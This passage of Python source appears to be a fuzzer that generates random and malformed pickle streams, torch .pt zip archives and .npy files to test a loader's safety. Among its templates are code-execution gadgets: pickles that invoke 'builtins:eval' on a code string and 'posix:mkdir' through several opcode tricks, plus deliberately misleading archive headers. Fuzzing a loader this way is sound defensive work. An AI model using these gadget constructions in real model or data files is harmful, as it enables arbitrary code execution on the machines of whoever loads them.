        return self.dice.choice(choices)

    def named(self):
        dotted = self.dice.choice(GADGET_NAMES if self.dice.random() < 0.15 else self.names)
        if self.dice.random() < 0.6:
            return name(dotted)
        module, attribute = dotted.split(":")
        if self.dice.random() < 0.05:
            return as_text(module) + as_text(attribute) + b"\x93"
        return text(module) + text(attribute) + b"\x93"

    def scalar(self):
        return self.pick(
            NONE, TRUE, FALSE, lambda: number(self.dice.choice(
                (0, 1, 3, 8, 255, -1, 1 << 20, 1 << 34, 1 << 62))), lambda: text(
                    self.dice.choice(
                        ("a", "f8", "O8", "O", "latin1", "utf-8", "<", "cpu", RAN, CODE, "__setstate__", "append"))),
            lambda: data(self.dice.choice(
                (b"", b"b", b"8 bytes.", b"x" * 64, EVIL))), lambda: b"G" + struct.pack(">d", 1.5))

    def value(self, depth=0):
        roll = self.dice.random()
        if self.memo and roll < 0.12:
            return self.got(self.dice.choice(self.memo))
        if depth > 4 or roll < 0.35:
            drawn = self.scalar()
            out = drawn() if callable(drawn) else drawn
        elif roll < 0.45:
            out = tuple_of(*self.values(depth))
        elif roll < 0.53:
            out = self.pick(EMPTY_LIST, EMPTY_DICT, EMPTY_SET, EMPTY_TUPLE)
        elif roll < 0.6:
            out = dict_of({
                self.dice.choice(("a", "state", "key", "__setstate__", "__array_interface__", "append")): self.value(
                    depth + 1)
            })
        elif roll < 0.67:
            out = self.named()
        elif roll < 0.8:
            out = self.template(depth)
        else:
            out = self.called(depth)
        if self.dice.random() < 0.2:
            out += self.remember()
        return out

    def values(self, depth):
        return [self.value(depth + 1) for _ in range(self.dice.randrange(4))]

    def called(self, depth):
        out = self.named() + tuple_of(*self.values(depth)) + self.pick(REDUCE, REDUCE, REDUCE, NEWOBJ)
        roll = self.dice.random()
        if roll < 0.2:
            out += self.value(depth + 1) + BUILD
        elif roll < 0.3:
            out += self.value(depth + 1) + self.value(depth + 1) + b"s"
        elif roll < 0.35:
            out += self.value(depth + 1) + b"a"
        elif roll < 0.4:
            out += tuple_of(*self.values(depth)) + REDUCE
        return out

    # Well-formed pieces, one of which is sometimes changed.
    def template(self, depth):
        wrong = self.dice.random() < 0.4
        code, flags, size, alignment = self.dice.choice((("f8", 0, -1, -1), ("i4", 0, -1, -1), ("O8", 63, -1, -1),
                                                         ("S3", 0, 3, 1), ("U5", 8, 20, 4), ("V7", 0, 7, 1)))
        if wrong and self.dice.random() < 0.5:
            flags, size = self.dice.choice((0, 1, 8, 27, 63)), self.dice.choice((size, 1 << 20))
        element = dtype(code, dtype_state("|" if code[0] in "OSV" else "<", flags=flags, size=size,
                                          alignment=alignment))
        content = list_of(*self.values(depth)) if code == "O8" else data(b"x" * self.dice.choice((8, 0, 20, 64)))
        shape = (self.dice.choice((0, 1, 2, 1 << 40) if wrong else (0, 1)), )
        width = {"f8": 8, "i4": 4, "S3": 3, "U5": 20, "V7": 7}.get(code, 8)
        if not wrong:
            content = list_of(*[NONE] * shape[0]) if code == "O8" else data(b"x" * (width * shape[0]))
        return self.pick(
            lambda: element, lambda: reconstructed(array_state(shape, element, content)),
            lambda: call("numpy._core.multiarray:scalar", element, data(b"x" * (width if not wrong else 5))),
            lambda: call("numpy:int64", interface()), lambda: NAMESPACE + dict_of({"a": self.value(depth + 1)}) + BUILD,
            lambda: call("collections:OrderedDict") + text("k") + self.value(depth + 1) + b"s",
            lambda: call("collections:deque", EMPTY_TUPLE) + self.value(depth + 1) + b"a",
            lambda: call("collections:defaultdict", self.named()),
            lambda: name("posix:mkdir") + tuple_of(text(RAN)) + self.pick(REDUCE, REDUCE, NEWOBJ),
            lambda: call("builtins:eval", text(CODE)),
            lambda: call("builtins:list", call("builtins:map", name("posix:mkdir"), tuple_of(text(RAN)))),
            lambda: call("functools:partial", name("posix:mkdir"), text(RAN)) + EMPTY_TUPLE + REDUCE,
            lambda: NAMESPACE + dict_of({"__setstate__": name("posix:mkdir")}) + BUILD + text(RAN) + BUILD,
            lambda: b"(" + text(RAN) + b"iposix\nmkdir\n", lambda: b"(" + name("posix:mkdir") + text(RAN) + b"o",
            lambda: call("_codecs:encode", text("abc"), text(self.dice.choice(("latin1", "latin1", "rot13", "utf-8")))),
            lambda: call("collections:Counter", dict_of({"a": number(2)})),
            lambda: call("datetime:timedelta", number(1), number(2), number(3)))()

    # Memo.

    def remember(self):
        index = self.dice.choice((len(self.memo), len(self.memo), len(self.memo), 10, 1))
        kind = self.dice.random()
        self.memo.append(index)
        if kind < 0.4:
            return b"q" + bytes([index])
        if kind < 0.7:
            return put(index)
        return b"p" + self.spelled(index) + b"\n"

    def got(self, index):
        kind = self.dice.random()
        if kind < 0.5:
            return b"h" + bytes([index])
        return get(index) if kind < 0.8 else b"g" + self.spelled(index) + b"\n"

    def spelled(self, index):
        plain = str(index).encode()
        if self.dice.random() < 0.7:
            return plain
        return self.dice.choice((b"0" + plain, b" " + plain, plain + b" ", b"+" + plain, b"1_0", plain + b"\0"))

    # Files.

    def pickle(self):
        self.memo.clear()
        body = self.value()
        if self.dice.random() < 0.15:
            body = self.value() + POP + body
        if self.dice.random() < 0.06:
            first, second = self.dice.choice(INDEX_SPELLINGS), self.dice.choice((b"1", b"10"))
            return confused((first, second, first.replace(b"1", b"2"), second.replace(b"1", b"2")))
        header = b"" if self.dice.random() < 0.2 else b"\x80" + bytes([self.dice.choice((2, 3, 4, 4, 5))])
        out = header + body + STOP
        if self.dice.random() < 0.12:
            changed = bytearray(out)
            for _ in range(self.dice.randint(1, 3)):
                changed[self.dice.randrange(len(changed))] = self.dice.randrange(256)
            out = bytes(changed)
        if self.dice.random() < 0.05:
            out = out[:self.dice.randrange(1, len(out) + 1)]
        return out

    def file(self):
        """The ending of a name, and a content."""
        form = self.dice.random()
        if form < 0.6:
            content = self.pickle()
            if self.dice.random() < 0.06:
                content = b"N." * self.dice.choice((1, 16, 17, 40)) + content
            if self.dice.random() < 0.05:
                content += self.pickle()
            return self.dice.choice((".pkl", ".pkl", ".pt", ".bin", ".weights", ".txt", "", ".safetensors")), content
        if form < 0.85:
            lies = {}
            if self.dice.random() < 0.4:
                lies = dict([
                    self.dice.choice(
                        (("local_method", 0), ("local_method", 8), ("disk", 1), ("local_name", b"q" * 5000),
                         ("local_name", b"archive/data/0"), ("local_size", 0), ("central_size", 1), ("offset", 0),
                         ("flags", 8), ("local_flags", 1), ("attributes", 16), ("behind", b"1234")))
                ])
            more = [
                Entry("archive/data/0", self.dice.choice((bytes(8), bytes(64), self.pickle())),
                      self.dice.choice((0, 0, 8)))
            ]
            entry = self.dice.choice(("archive/data.pkl", ) * 6 +
                                     ("archive/DATA.PKL", "data.pkl", "archive/data.pkl\0"))
            return ".pt", torch_zip(self.pickle(), self.dice.choice((0, 0, 0, 8)), more, entry, **lies)
        if form < 0.92:
            return ".npy", npy(self.dice.choice(("'|O'", "'object'", "'<f8'", "'\\x4f'", "'ob' 'ject'")), self.pickle())
        parts = [MAGIC, b"\x80\x02M\xe9\x03.", b"\x80\x02}.", b"\x80\x02}.", b"\x80\x02]."]
        for _ in range(self.dice.randrange(3)):
            parts[self.dice.randrange(1, 5)] = self.pickle()
        return ".pt", b"".join(parts) + (self.pickle() if self.dice.random() < 0.3 else b"")
